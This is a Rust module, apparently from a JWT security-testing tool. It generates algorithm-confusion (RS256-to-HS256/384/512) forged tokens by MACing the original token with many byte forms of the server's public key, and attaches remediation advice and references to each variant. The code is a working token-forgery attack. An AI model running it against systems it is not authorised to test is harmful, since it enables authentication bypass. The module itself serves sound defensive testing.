//! Key confusion (RS256 to HS256 and kin): the token is switched to HS256/384/512 and MACed
//! with the server's public key, in each byte form a server might hold it.

use super::{AttackError, Draft, Group, Original, compact, hmac, json_str};
use crate::core::alg::{Family, JwsAlg};
use crate::core::keys::der::{self, tag};
use crate::core::keys::{self, Key, KeyMaterial};

/// One byte form of the public key, as a server might hold it.
pub(super) struct KeyForm {
    /// Stable kebab-case id, the end of the variant id.
    pub id: &'static str,
    /// What the form is, for the variant's name and explanation.
    pub what: String,
    /// The bytes used as the HMAC key.
    pub bytes: Vec<u8>,
}

/// True when `text` is PEM of public material (a public key or a certificate).
fn is_public_pem(text: &str) -> bool {
    text.contains("-----BEGIN ") && !text.contains("PRIVATE KEY") && !text.contains("ENCRYPTED")
}

/// Checks that `text` loads and holds the public key of `key`.
fn check_text(key: &Key, text: &str) -> Result<(), AttackError> {
    let file =
        keys::load_key_bytes(text.as_bytes()).map_err(|e| AttackError::KeyText(e.to_string()))?;
    let want = key.public_half().material;
    if file.keys.iter().any(|k| k.public_half().material == want) {
        Ok(())
    } else {
        Err(AttackError::KeyTextMismatch)
    }
}

/// `text` with its line endings turned into `eol`.
fn with_line_endings(text: &str, eol: &str) -> String {
    text.replace("\r\n", "\n").replace('\n', eol)
}

/// The RFC 7638 members of the public JWK, sorted, without whitespace.
fn canonical_jwk(key: &Key) -> Result<String, AttackError> {
    let jwk = key.public_half().to_jwk(false)?;
    let mut members: Vec<(&String, &serde_json::Value)> = jwk
        .iter()
        .filter(|(k, _)| matches!(k.as_str(), "kty" | "n" | "e" | "crv" | "x" | "y"))
        .collect();
    members.sort_by(|a, b| a.0.cmp(b.0));
    let body: Vec<String> = members
        .into_iter()
        .map(|(k, v)| format!("{}:{v}", json_str(k)))
        .collect();
    Ok(format!("{{{}}}", body.join(",")))
}

/// Every form of the public key, duplicates (same bytes) left out.
pub(super) fn key_forms(
    key: &Key,
    key_text: Option<&str>,
    notes: &mut Vec<String>,
) -> Result<Vec<KeyForm>, AttackError> {
    let spki = key
        .spki_der()
        .ok_or_else(|| AttackError::Crypto("reading the public key".into()))?;
    let spki_pem = keys::pem_encode("PUBLIC KEY", &spki);
    let (base_id, base_what, base) = match key_text {
        Some(text) => {
            check_text(key, text)?;
            if is_public_pem(text) {
                (
                    "pem-as-loaded",
                    "the PEM exactly as loaded",
                    text.to_string(),
                )
            } else {
                notes.push("the loaded key text is not a public PEM, so key confusion uses the SPKI PEM the server would publish".to_string());
                ("pem-spki", "the SPKI PEM (PUBLIC KEY)", spki_pem.clone())
            }
        }
        None => ("pem-spki", "the SPKI PEM (PUBLIC KEY)", spki_pem.clone()),
    };
    let newline_form = match base.strip_suffix("\r\n").or(base.strip_suffix('\n')) {
        Some(cut) => (
            "pem-no-final-newline",
            format!("{base_what}, without its final newline"),
            cut.to_string(),
        ),
        None => (
            "pem-final-newline-added",
            format!("{base_what}, with a final newline added"),
            format!("{base}\n"),
        ),
    };
    let mut candidates = vec![
        (base_id, base_what.to_string(), base.clone()),
        newline_form,
        (
            "pem-crlf",
            format!("{base_what}, with CRLF line endings"),
            with_line_endings(&base, "\r\n"),
        ),
        (
            "pem-lf",
            format!("{base_what}, with LF line endings"),
            with_line_endings(&base, "\n"),
        ),
        (
            "pem-spki",
            "the SPKI PEM (PUBLIC KEY)".to_string(),
            spki_pem,
        ),
    ]
    .into_iter()
    .map(|(id, what, text)| KeyForm {
        id,
        what,
        bytes: text.into_bytes(),
    })
    .collect::<Vec<_>>();
    if let KeyMaterial::RsaPrivate { n, e, .. } | KeyMaterial::RsaPublic { n, e } = &key.material {
        let mut body = der::write_unsigned(n);
        body.extend(der::write_unsigned(e));
        let pkcs1 = der::write(tag::SEQUENCE, &body);
        candidates.push(KeyForm {
            id: "pkcs1-pem",
            what: "the PKCS#1 PEM (RSA PUBLIC KEY)".to_string(),
            bytes: keys::pem_encode("RSA PUBLIC KEY", &pkcs1).into_bytes(),
        });
    }
    candidates.push(KeyForm {
        id: "spki-der",
        what: "the DER bytes of the SPKI".to_string(),
        bytes: spki,
    });
    candidates.push(KeyForm {
        id: "jwk",
        what: "the public JWK text (RFC 7638 members, sorted, no whitespace)".to_string(),
        bytes: canonical_jwk(key)?.into_bytes(),
    });
    let mut forms: Vec<KeyForm> = Vec::new();
    for c in candidates {
        if !forms.iter().any(|f| f.bytes == c.bytes || f.id == c.id) {
            forms.push(c);
        }
    }
    Ok(forms)
}

const MUST: &str = "Reject it: the server must fix the algorithm per key (RS256 for this key) and never let the token's alg choose HMAC for a public key; a key object must be usable with one algorithm family only.";
const REFERENCE: &str = "PortSwigger Web Security Academy lab \"JWT authentication bypass via algorithm confusion\", https://portswigger.net/web-security/jwt/algorithm-confusion/lab-jwt-authentication-bypass-via-algorithm-confusion; CVE-2016-10555 (jwt-simple let the token choose HS256 for an RSA key)";

/// HS256/384/512 MACed with each form of the public key (asymmetric keys only).
pub(super) fn variants(
    orig: &Original,
    key: &Key,
    key_text: Option<&str>,
    notes: &mut Vec<String>,
    out: &mut dyn FnMut(Draft),
) -> Result<(), AttackError> {
    if key.family() == Family::Hmac {
        notes.push(
            "key confusion skipped: the loaded key is an HMAC secret, not a public key".to_string(),
        );
        return Ok(());
    }
    let forms = key_forms(key, key_text, notes)?;
    for alg in [JwsAlg::HS256, JwsAlg::HS384, JwsAlg::HS512] {
        let header = orig.header_with(&[("alg", json_str(alg.name()))])?;
        let input = super::dotted(&[
            &crate::core::b64::encode(header.as_bytes()),
            &orig.payload_segment,
        ]);
        for form in &forms {
            let mac = hmac(alg, &form.bytes, input.as_bytes());
            out(
                Draft::new(
                    format!("key-confusion-{alg}-{}", form.id),
                    Group::KeyConfusion,
                    format!("{alg} keyed with {}", form.what),
                    compact(&header, &orig.payload_segment, &mac),
                )
                .text(
                    format!(
                        "The header is switched from {} to {alg} and the token is MACed with the server's public key used as the HMAC secret, in this form: {} ({} bytes). A server that hands the same key object to whatever algorithm the header names computes this very MAC, and the public key is public. The exact bytes matter (line endings, final newline, encoding), hence one variant per form.",
                        orig.alg,
                        form.what,
                        form.bytes.len()
                    ),
                    MUST,
                    REFERENCE,
                ),
            );
        }
    }
    Ok(())
}
